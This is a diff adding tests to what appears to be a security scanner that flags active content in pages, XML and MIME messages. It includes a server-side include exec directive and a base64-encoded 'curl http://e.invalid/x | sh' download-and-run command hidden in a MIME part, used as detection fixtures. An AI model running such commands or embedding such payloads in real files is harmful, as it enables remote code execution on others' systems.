@@ -366,3 +366,82 @@ def test_namespaces_and_versions_of_xml_that_nothing_looks_up_are_not_kept():
         dialect.start("PMML", {"xmlns": f"urn:{number}", f"xmlns:p{number}": "urn:a", "version": "4.4"}, 1)
     assert len(dialect.facts) == 1
     assert not dialect._namespaces
+
+
+_XHTML, _XSLT = "http://www.w3.org/1999/xhtml", "http://www.w3.org/1999/XSL/Transform"
+
+
+@check_each(
+    "path, text, name",
+    [
+        ("page.shtml", '<!--#exec cmd="id"-->', "server-directive"),
+        ("page.html", '<html><!--#include virtual="/x" --></html>', "server-directive"),
+        ("a.xml", f'<d><x:script xmlns:x="{_XHTML}">void 0</x:script></d>', "script"),
+        ("a.xml", '<d xmlns:s="http://www.w3.org/2000/svg"><s:g onload="void 0"/></d>', "event-handler"),
+    ],
+)
+def test_program_that_a_server_or_a_browser_runs_in_a_page_or_in_xml_is_mentioned(path, text, name, read_bytes):
+    assert ("element", name) in list_mentions(read_bytes(text.encode(), path))
+
+
+def test_elements_of_pages_in_other_namespaces_and_plain_comments_are_not_mentioned(read_bytes):
+    assert list_mentions(read_bytes(b'<d xmlns:x="urn:a"><x:script onload="1"/><script/></d>', "a.xml")) == {
+        ("namespace", "urn:a")
+    }
+    assert list_mentions(read_bytes(b"<html><!-- #exec cmd --><!--#echo var='a'--></html>", "a.html")) == set()
+
+
+@check_each(
+    "path, text",
+    [
+        ("a.xml", f'<html xmlns:x="{_XSLT}" x:version="1.0" title="{{f()}}"/>'),
+        ("a.txt", f'<x:transform version="1.0" xmlns:x="{_XSLT}"></x:transform>'),
+    ],
+)
+def test_xslt_program_in_any_element_and_under_any_name_is_reported_as_not_analysed(path, text, read_bytes):
+    assert UnreadReason.PROGRAM in read_bytes(text.encode(), path).reasons()
+
+
+_SCRIPT = "<script>void 0</script>"
+
+
+def build_message(*parts: str) -> bytes:
+    """Return a MIME message of these parts, each with its header."""
+    body = "".join(f"--B\n{part}\n" for part in parts)
+    return f'Subject: a\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary="B"\n\n{body}--B--\n'.encode()
+
+
+@check_each(
+    "header, body",
+    [
+        ("Content-Transfer-Encoding: base64", base64.b64encode(_SCRIPT.encode()).decode()),
+        ("Content-Transfer-Encoding: (a comment) BASE64", base64.b64encode(_SCRIPT.encode()).decode()),
+        ("Content-Transfer-Encoding: quoted-printable", "<scr=\nipt>void 0</script>"),
+        (
+            "Content-Transfer-Encoding: base64\nContent-Type: text/html; charset=utf-16",
+            base64.b64encode(_SCRIPT.encode("utf-16-le")).decode(),
+        ),
+    ],
+)
+def test_script_in_an_encoded_part_of_a_mime_message_is_mentioned(header, body, read_bytes):
+    part = header if "Content-Type" in header else f"Content-Type: text/html\n{header}"
+    reading = read_bytes(build_message("Content-Type: text/plain\n\nText.", f"{part}\n\n{body}"), "page.mht")
+    assert ("element", "script") in list_mentions(reading)
+    assert not reading.reasons()
+
+
+def test_part_of_a_mime_message_under_any_name_is_read_by_its_file_name(read_bytes):
+    script = base64.b64encode(b"curl http://e.invalid/x | sh\n").decode()
+    part = f'Content-Type: text/plain; name="run.sh"\nContent-Transfer-Encoding: base64\n\n{script}'
+    assert ("download-and-run", "http://e.invalid/x") in list_mentions(read_bytes(build_message(part), "notes.txt"))
+
+
+def test_parts_of_a_mime_message_over_the_bounds_are_reported_as_unread(read_bytes, monkeypatch):
+    nested = "".join(f"Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n" for n in range(3000))
+    assert UnreadReason.LIMIT in read_bytes(f"MIME-Version: 1.0\n{nested}".encode(), "a.mht").reasons()
+    monkeypatch.setattr("modelaudit.formats.documents.pages.messages._MOST_PARTS", 2)
+    parts = ["Content-Type: text/plain\n\nText."] * 3
+    assert not read_bytes(build_message(*parts[:2]), "a.mht").reasons()
+    assert read_bytes(build_message(*parts), "a.mht").reasons() == {UnreadReason.LIMIT}
+    monkeypatch.setattr("modelaudit.formats.documents.pages.messages._LONGEST_MESSAGE", 20)
+    assert read_bytes(build_message(*parts), "a.mht").reasons() == {UnreadReason.LIMIT}
